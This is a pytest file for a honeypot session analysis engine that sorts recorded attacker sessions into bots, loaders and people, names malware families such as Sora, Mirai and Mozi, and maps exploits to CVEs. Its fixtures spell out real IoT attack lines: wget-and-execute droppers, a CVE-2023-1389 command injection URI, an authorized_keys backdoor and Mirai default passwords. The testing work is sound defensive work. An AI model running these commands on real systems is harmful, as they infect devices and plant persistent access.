"""The engine on sessions: the contract whatever the bounds, what it says of bots, loaders and people, and what it
forgets."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from session_batches import SECOND, START, batch, session

from andon.detect.intel.session import engine
from andon.detect.intel.session.digest import STEPS
from andon.detect.intel.session.memory import Memory
from andon.detect.intel.session.summary import SHARE, Sessions
from andon.observe import honeypot
from andon.observe.jsonlines import Skipped
from andon.records.contract import Context, Outcome, Site
from andon.records.kinds import HONEYPOT_SESSION, marked
from andon.run.contract import check_engine
from andon.sketch.state import StateError

DAY = 86_400 * SECOND
INFECTION = (
    "enable", "shell", "sh", "/bin/busybox SORA", "cd /tmp", "wget http://203.0.113.9/bins/sora.arm7 -O dvrHelper",
    "chmod 777 dvrHelper", "./dvrHelper telnet; /bin/busybox SORA",
)  # fmt: skip


def concluded(*rows: dict[str, Any], carry: Memory | None = None, start: int = START) -> Outcome[Memory]:
    made = engine(Site())
    summary = made.summarise(batch(*rows), made.empty())
    return made.conclude(summary, carry, Context("1d", start, start + DAY))


def only(outcome: Outcome[Memory]) -> dict[str, Any]:
    rows = outcome.tables["sessions"].to_pylist()
    assert len(rows) == 1
    return rows[0]


def behaviours(outcome: Outcome[Memory], kind: str) -> list[str]:
    return [row["value"] for row in outcome.tables["behaviours"].to_pylist() if row["kind"] == kind]


def mixture(count: int) -> list[pa.RecordBatch]:
    """Sessions of every kind, several batches."""
    rows = []
    for n in range(count):
        kind = n % 6
        if kind == 0:
            rows.append(session(n, tried=[("root", "xc3511"), ("root", f"pw{n}")]))
        elif kind == 1:
            rows.append(session(n, typed=["/bin/busybox MIRAI"], tried=[("root", "vizxv")], accepted=True))
        elif kind == 2:
            rows.append(session(n, typed=[*INFECTION, f"rm /tmp/f{n:06d}"], accepted=True,
                                urls=["http://203.0.113.9/bins/sora.arm7"],
                                hashes=["ab" * 32]))  # fmt: skip
        elif kind == 3:
            rows.append(
                session(
                    n,
                    requests=[{"method": "GET", "uri": f"/shell?wget+http://192.0.2.{n % 9}/a", "body": ""}],
                    protocol="http",
                )
            )
        elif kind == 4:
            payload = {
                "length": 20,
                "md5": None,
                "sha256": None,
                "sha512": None,
                "hex": b"GET /HNAP1 HTTP/1.1\r\n\r\n".hex(),
            }
            rows.append(session(n, session="", payloads=[payload], protocol="tcp"))
        else:
            rows.append(
                session(
                    n,
                    relayed=3,
                    outcomes=[
                        {"step": "scan", "detail": ""},
                        {"step": "command-and-control", "detail": f"x{n}:80"},
                    ],
                )
            )
    return [batch(*rows[at : at + 37]) for at in range(0, count, 37)]


def test_contract_on_a_mixture() -> None:
    outcome = check_engine(engine(Site()), mixture(300))
    assert outcome.tables["sessions"].num_rows == 300
    assert outcome.tables["controllers"].num_rows == 50
    assert outcome.findings == ()


@pytest.mark.parametrize("limit", [8_000, 20_000, 50_000])
def test_contract_when_a_bound_holds(limit: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("andon.detect.intel.session.summary._PIECE", 20)
    made = engine(Site())
    made._bytes = limit
    outcome = check_engine(made, mixture(300))
    kept = outcome.tables["sessions"].num_rows
    assert 0 < kept < 300
    assert [finding.kind for finding in outcome.findings] == ["load-shed"]
    assert outcome.findings[0].count == 300 - kept
    # Steps are counted before anything is left out.
    assert outcome.tables["steps"]["sessions"].to_pylist()[0] == 300


def test_one_source_cannot_take_the_room_of_others(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("andon.detect.intel.session.summary._PIECE", 50)
    made = engine(Site())
    made._bytes = 200_000
    loud = [session(n, address=0x01010101, tried=[("a", f"{n}")]) for n in range(600)]
    quiet = [session(1000 + n, address=0x02000000 + n, typed=["uname -a"]) for n in range(100)]
    batches = [batch(*(loud + quiet)[at : at + 50]) for at in range(0, 700, 50)]
    outcome = check_engine(made, batches)
    sources = outcome.tables["sessions"]["address"].to_pylist()
    assert sum(one != 0x01010101 for one in sources) == 100
    assert 0 < sum(one == 0x01010101 for one in sources) <= 200_000 // SHARE // 128
    summary = made.empty()
    for one in batches:
        summary = made.summarise(one, summary)
    assert summary.left_out == 700 - len(sources)


def test_loader_and_bot_are_told_apart() -> None:
    bot = only(
        concluded(
            session(
                1, typed=["sh", "/bin/busybox SORA"], tried=[("a", "b"), ("root", "vizxv")], accepted=True
            )
        )
    )
    loader = only(
        concluded(
            session(
                2,
                typed=INFECTION,
                tried=[("root", "vizxv")],
                accepted=True,
                urls=["http://203.0.113.9/bins/sora.arm7"],
            )
        )
    )
    mozi = ["wget http://198.51.100.3:48123/Mozi.m"]
    itself = only(concluded(session(3, typed=mozi, tried=[("root", "vizxv")], accepted=True,
                                    address=0xC6336403)))  # fmt: skip
    assert [one["role"] for one in (bot, loader, itself)] == ["bot", "loader", "bot"]
    assert itself["family"] == "Mozi"
    assert loader["role_confidence"] > itself["role_confidence"]


def test_a_bot_that_needs_no_password_brings_its_payload_itself() -> None:
    worm = [
        "cd /data/local/tmp; busybox wget http://203.0.113.9/a/arm7 -O .x; chmod 777 .x; ./.x; busybox WYRMA"
    ]
    assert only(concluded(session(1, typed=worm)))["role"] == "bot"


def test_a_download_that_only_the_honeypot_tells_of_counts() -> None:
    told = [{"step": step, "detail": ""} for step in ("scan", "login", "download", "delivery")]
    assert only(concluded(session(1, outcomes=told, accepted=True)))["role"] == "loader"


def test_relays_surveys_and_people_have_roles_of_their_own() -> None:
    relay = only(concluded(session(1, relayed=4, accepted=True, tried=[("a", "b")])))
    survey = only(
        concluded(
            session(2, client="Mozilla/5.0 zgrab/0.x", requests=[{"method": "GET", "uri": "/", "body": ""}])
        )
    )
    person = only(concluded(session(3, typed=["ls", "cat /etc/paswd\x7f\x7fwd", "w", "exit"], accepted=True)))
    assert [one["role"] for one in (relay, survey, person)] == ["relay", "survey", "person"]


def test_family_comes_with_its_evidence() -> None:
    row = only(concluded(session(1, typed=INFECTION, accepted=True, tried=[("root", "xc3511")])))
    assert row["family"] == "Sora"
    assert row["family_confidence"] > 0.9
    for piece in ("token SORA", "URL base /bins/sora."):
        assert piece in row["family_evidence"]
    outlaw = only(
        concluded(
            session(
                2,
                typed=[
                    'echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7V mdrfckr">>.ssh/authorized_keys'
                ],
            )
        )
    )
    assert (outlaw["family"], "T1098.004" in outlaw["techniques"]) == ("Outlaw", True)
    assert only(concluded(session(3, tried=[("admin", "admin"), ("root", "xc3511")])))["family"] == ""
    assert only(concluded(session(4, tried=[("root", "vizxv"), ("root", "xc3511")])))["family"] == "Mirai"


def test_a_payload_brings_the_family_along_that_others_named() -> None:
    rows = [session(n, typed=INFECTION, hashes=["cd" * 32], accepted=True) for n in range(3)]
    silent = session(9, hashes=["cd" * 32], accepted=True)
    found = {row["session"]: row for row in concluded(*rows, silent).tables["sessions"].to_pylist()}
    assert found["hp-1/00000009"]["family"] == "Sora"
    assert "payload" in found["hp-1/00000009"]["family_evidence"]
    mixed = [session(n, typed=[f"/bin/busybox FORK{n}"], hashes=["cd" * 32]) for n in range(4)]
    found = {row["session"]: row for row in concluded(*mixed, silent).tables["sessions"].to_pylist()}
    assert found["hp-1/00000009"]["family"] == ""


def test_steps_follow_from_the_session_or_are_what_the_honeypot_says() -> None:
    row = only(
        concluded(
            session(1, typed=INFECTION, accepted=True, urls=["http://203.0.113.9/x"], hashes=["ef" * 32])
        )
    )
    assert row["steps"] == ["scan", "login", "download", "delivery", "execution"]
    told = [
        {"step": step, "detail": "h:1"}
        for step in ("scan", "login", "download", "download", "command-and-control")
    ]
    outcome = concluded(session(2, outcomes=told))
    assert only(outcome)["steps"] == ["scan", "login", "download", "command-and-control"]
    assert dict(zip(STEPS, outcome.tables["steps"]["times"].to_pylist(), strict=True))["download"] == 2
    assert outcome.tables["controllers"]["server"].to_pylist() == ["h:1"]


def test_tokens_that_are_drawn_anew_are_one_class_and_names_are_not() -> None:
    rows = [
        session(n, typed=[f"/bin/busybox {token}"])
        for n, token in enumerate(("GMCLjrD6", "LfMBiull", "r5k5qCQi", "WUJME"))
    ]
    rows += [session(10 + n, typed=["/bin/busybox yr89WD6V"]) for n in range(2)]
    assert sorted(behaviours(concluded(*rows), "token")) == ["<random>"] * 3 + [
        "WUJME",
        "yr89WD6V",
        "yr89WD6V",
    ]


def test_exploits_are_behaviours_with_their_targets() -> None:
    uri = (
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://203.0.113.5/tk.mips)"
    )
    outcome = concluded(session(1, protocol="http", requests=[{"method": "GET", "uri": uri, "body": None}]))
    assert behaviours(outcome, "exploit") == ["CVE-2023-1389"]
    assert behaviours(outcome, "url-base") == ["/tk."]
    row = only(outcome)
    assert (row["cves"], row["targets"]) == (["CVE-2023-1389"], ["TP-Link|Archer AX21|Router"])
    assert {"T1190", "T1105"} <= set(row["techniques"])


def test_rules_of_the_site_are_used() -> None:
    lists = pa.list_(pa.string())
    columns = [("msg", pa.string()), ("cve", lists), ("uri", lists), ("body", lists), ("method", pa.string())]
    row = {"msg": "x", "cve": ["CVE-2031-1000"], "uri": ["/future.cgi"], "body": [], "method": "GET"}
    rules = pa.Table.from_pylist([row], pa.schema(columns))
    made = engine(Site(lists={"exploit-rules": rules}))
    rows = batch(session(1, requests=[{"method": "GET", "uri": "/future.cgi?a", "body": ""}]))
    outcome = made.conclude(made.summarise(rows, made.empty()), None, Context("1d", START, START + DAY))
    assert outcome.tables["sessions"]["cves"].to_pylist() == [["CVE-2031-1000"]]


def test_clusters_keep_their_names_from_span_to_span_and_join_like_scripts() -> None:
    base = [
        "cd /tmp",
        "wget http://203.0.113.9/a.sh",
        "chmod 777 a.sh",
        "sh a.sh",
        "rm a.sh",
        "uname -a",
        "free -m",
        "w",
        "nproc",
        "history -c",
    ]
    first = concluded(session(1, typed=base))
    name = only(first)["cluster"]
    later = concluded(
        session(2, typed=[*base, "exit"]),
        session(3, typed=["ls", "top"]),
        carry=first.carry,
        start=START + DAY,
    )
    rows = {row["session"]: row["cluster"] for row in later.tables["sessions"].to_pylist()}
    assert rows["hp-1/00000002"] == name != rows["hp-1/00000003"]
    again = concluded(session(2, typed=[*base, "exit"]))
    assert only(again)["cluster"] != name  # without the memory it names itself


def test_no_program_and_no_password_that_was_set_is_in_summary_or_tables() -> None:
    elf = b"\x7fELF\x01\x01\x01\x00" + bytes(range(120))
    escaped = "".join(f"\\x{byte:02x}" for byte in elf)
    rows = batch(
        session(
            1,
            typed=[
                f"echo -ne '{escaped}' > .s",
                "echo root:S3cretSet | chpasswd",
                f"echo {elf.hex()} | xxd -r",
            ],
        ),
        session(
            2, payloads=[{"length": len(elf), "md5": None, "sha256": None, "sha512": None, "hex": elf.hex()}]
        ),
    )
    made = engine(Site())
    summary = made.summarise(rows, made.empty())
    data = summary.to_bytes()
    for piece in (elf[:12], elf.hex()[:24].encode(), escaped[:40].encode(), b"S3cretSet"):
        assert piece not in data
    outcome = made.conclude(summary, None, Context("1d", START, START + DAY))
    text = str([table.to_pylist() for table in outcome.tables.values()])
    assert "7f454c46" not in text
    assert len([value for value in behaviours(outcome, "payload") if len(value) == 64]) == 2


def test_an_empty_day_is_empty() -> None:
    made = engine(Site())
    outcome = made.conclude(made.empty(), None, Context("1d", START, START + DAY))
    assert {name: table.num_rows for name, table in outcome.tables.items() if name != "steps"} == {
        "sessions": 0, "behaviours": 0, "clusters": 0, "controllers": 0,
    }  # fmt: skip


def test_damaged_state_is_refused() -> None:
    made = engine(Site())
    data = made.summarise(batch(session(1)), made.empty()).to_bytes()
    with pytest.raises(StateError):
        Sessions.from_bytes(data[:-40] + bytes(40))
    with pytest.raises(StateError):
        Memory.from_bytes(data)


@pytest.mark.real_data
def test_contract_on_real_logs(andon_data: Path) -> None:
    batches = []
    for name in (
        "tpot_gcp_2025/honeytrap_attackers.jsonl.zst",
        "cowrie_ssh_2017/cowrie.json.zst",
        "scenario/cowrie.json.zst",
    ):
        for one in honeypot.sessions(andon_data / "joint" / name, Skipped()):
            batches += [marked(one.slice(at, 900), HONEYPOT_SESSION) for at in range(0, one.num_rows, 900)]
    outcome = check_engine(engine(Site()), batches)
    assert set(behaviours(outcome, "token")) == {"WUJME", "VFYNH", "SHZXS", "BANOWIZ", "/gweerwe323f"}


def test_contract_when_there_are_more_patterns_than_room(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("andon.detect.intel.session.summary.PATTERNS", 2_000)
    rows = [session(n, typed=[" ".join("abcdefgh"[int(d)] for d in f"{n:o}")]) for n in range(200)]
    outcome = check_engine(engine(Site()), [batch(*rows[at : at + 23]) for at in range(0, 200, 23)])
    clusters = outcome.tables["sessions"]["cluster"].to_pylist()
    assert 0 < sum(bool(one) for one in clusters) < len(clusters) == 200


TEXT = st.one_of(
    st.none(),
    st.text(max_size=30),
    st.sampled_from(["GET", "/shell?wget http://a/b", "busybox X1Y2", "-", "\t"]),
)
WHOLE = st.text(max_size=12)


@st.composite
def hostile(draw: st.DrawFn) -> dict[str, Any]:
    """A session in which every text is the attacker's."""
    pick = st.lists(TEXT, max_size=3)
    at = st.integers(0, 10**9)
    return session(
        draw(st.integers(0, 50)), sensor=draw(WHOLE), session=draw(WHOLE), protocol=draw(WHOLE), src=draw(WHOLE),
        client=draw(WHOLE), hassh=draw(WHOLE), honeypot=draw(WHOLE), dst_port=draw(st.integers(-1, 65535)),
        address=draw(st.integers(0, 2**32 - 1)), urls=draw(pick), hashes=draw(pick),
        credentials=[
            {"username": one, "password": one, "accepted": draw(st.none() | st.booleans()), "at": None}
            for one in draw(pick)
        ],
        commands=[{"input": one, "at": None} for one in draw(pick)],
        requests=[{"method": one, "uri": one, "body": one} for one in draw(pick)],
        payloads=[
            {"length": draw(at), "md5": one, "sha256": None, "sha512": one, "hex": draw(TEXT)} for one in draw(pick)
        ],
        outcomes=[{"step": draw(TEXT | st.sampled_from(STEPS)), "detail": one} for one in draw(pick)],
    )  # fmt: skip


@given(st.lists(hostile(), min_size=1, max_size=6))
@settings(max_examples=40)
def test_contract_whatever_the_attacker_writes(rows: list[dict[str, Any]]) -> None:
    check_engine(engine(Site()), [batch(row) for row in rows])


def test_only_what_is_typed_to_a_shell_is_a_script() -> None:
    outcome = concluded(
        session(1, protocol="smtp", typed=["EHLO a", "MAIL FROM: <a@b>"]), session(2, typed=["uname -a"])
    )
    rows = {row["session"]: row for row in outcome.tables["sessions"].to_pylist()}
    assert (rows["hp-1/00000001"]["cluster"], rows["hp-1/00000001"]["commands"]) == ("", 2)
    assert rows["hp-1/00000002"]["cluster"]
    assert behaviours(outcome, "tactics") == ["Discovery"]
